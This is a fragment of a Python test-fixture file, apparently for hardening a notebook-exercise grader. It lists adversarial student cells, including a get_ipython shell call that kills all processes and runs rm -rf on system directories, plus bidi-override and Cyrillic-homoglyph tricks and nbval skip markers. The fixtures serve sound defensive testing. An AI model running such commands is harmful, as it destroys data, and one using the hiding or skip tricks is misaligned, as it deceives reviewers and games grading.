    Trick(
        "the shell by another name",
        "get_ipython runs commands without any sign in the source.",
        "3.6",
        "HEAD\n    get_ipython().system('kill -9 -1; rm -rf /tmp/* /kit /usr')\n    return 0",
    ),
]

# --- sources that no parser likes ------------------------------------------------------------------------------------

SOURCES = [
    quiet(
        "a mistake of grammar", "The cell is no Python.", "3.1", "def flatten(features)\n    return 0", said="line 2"
    ),
    quiet("a null byte", "The source holds a byte that no source holds.", "3.2", "HEAD\n    return '\0'"),
    quiet(
        "half a character",
        "A surrogate, which no file can hold.",
        "3.3",
        "HEAD\n    return '\ud800'",
        said="no array of numbers",
    ),
    quiet(
        "deep brackets",
        "Ten thousand of them.",
        "3.4",
        "HEAD\n    return " + "(" * 10_000 + ")" * 10_000,
        said="too many nested",
    ),
    quiet(
        "a long source",
        "A hundred and fifty thousand characters of one sum.",
        "3.5",
        "HEAD\n    return 0" + " + 1" * 37_000,
    ),
    quiet(
        "a source far too long",
        "Three hundred thousand characters.",
        "3.6",
        "HEAD\n    return 0\n" + "#" * 300_000,
        status="refused",
        said="far too many",
    ),
    quiet(
        "a name that looks right",
        "The function's name is written with a Cyrillic letter.",
        "3.4",
        "def style_gr\u0430dient(features, target):\n    return features",
        said="does not define",
    ),
    quiet(
        "text that runs backwards",
        "Marks that turn the direction of the text hide what a line does.",
        "3.1",
        "HEAD\n    # \u202e\u2066 return features \u2069\u2066\n    return 0 #\u2069 \u202c",
        status="wrong",
    ),
    quiet(
        "marks for nbval",
        "Comments that tell nbval to skip the cell, to ignore its output and to expect its error.",
        "3.2",
        "# NBVAL_SKIP\n## NBVAL_RAISES_EXCEPTION\n#NBVAL_IGNORE_OUTPUT\n"
        "# PYTEST_VALIDATE_IGNORE_OUTPUT\nHEAD\n    return 0",
        status="wrong",
        said="marks for nbval were taken out",
    ),
    quiet(
        "a number without end",
        "An integer with two hundred thousand digits.",
        "3.6",
        "HEAD\n    return " + "9" * 150_000,
    ),
]

KINDS = (VALUES, BORROWED, PATCHES, RECORDS, ENDS, ENDLESS, GREED, OUT, SOURCES)
